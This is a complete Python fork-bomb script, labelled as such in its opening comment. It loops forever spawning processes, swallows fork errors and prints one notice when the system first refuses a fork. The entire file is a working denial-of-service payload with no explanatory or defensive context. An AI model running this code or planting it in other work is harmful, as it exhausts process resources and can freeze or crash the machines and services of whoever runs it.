# Fork bomb: every process forks forever and ignores failures.
import os

refused = False
while True:
    try:
        os.fork()
    except OSError as e:
        if not refused:
            refused = True
            print("fork refused:", e, flush=True)
